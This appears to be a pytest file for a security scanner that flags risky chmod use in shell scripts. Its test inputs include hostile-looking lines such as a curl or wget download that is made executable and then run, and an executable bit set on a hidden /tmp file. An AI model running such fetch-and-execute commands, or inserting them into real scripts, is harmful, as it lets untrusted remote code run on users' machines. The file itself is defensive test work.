"""Classes the dev5 split opened beyond shipped secrets: chmod modes read as "executable", Ruby statement modifiers
and random sampling, setuid bits and self-granted agent permissions, look-alike hosts and package names."""

from __future__ import annotations

import pytest

from skillscope.audit.text_scan import scan_text
from tests.audit.behavior.helpers import found, rules, severity
from tests.audit.behavior.test_ruby_go_cli import audit, env  # noqa: F401  (env is a fixture)


def _risky(text: str, path: str = "scripts/setup.sh") -> list[str | None]:
    return [h.severity for h in scan_text(text, path, markdown=False) if h.id == "skillscope/risky-shell"]


# --- 1. chmod: only an executable bit on a temp, downloaded or system file is worth a warning -------------------


@pytest.mark.parametrize(
    "script",
    [
        '#!/bin/sh\nchmod 700 "$HOME/.ssh"\nchmod 600 "$HOME"/.ssh/id_*\n',
        '#!/bin/sh\ndest="$HOME/.mytool/bin"\ncp bin/mytool "$dest/mytool"\nchmod 755 "$dest/mytool"\n',
        "#!/bin/sh\nchmod u+x ~/.local/bin/fmt\n",
        "#!/bin/sh\nchmod a+x scripts/run.sh\n",
    ],
)
def test_a_chmod_of_the_users_own_files_or_the_skills_script_is_quiet(script):
    assert all(s == "note" for s in _risky(script))


@pytest.mark.parametrize(
    "script",
    [
        "#!/bin/sh\nchmod +x /tmp/.u\n",
        '#!/bin/sh\nt="$(mktemp)"\nchmod 755 "$t"\n',
        '#!/bin/sh\nchmod 0755 "$TMPDIR/agent"\n',
        "#!/bin/sh\ncurl -fsSL -o tool https://dl.example.net/tool\nchmod u+x ./tool\n./tool\n",
        "#!/bin/sh\nwget -O helper https://dl.example.net/h\nchmod 777 helper\n",
    ],
)
def test_an_executable_bit_on_a_temp_or_downloaded_file_warns(script):
    assert None in _risky(script)
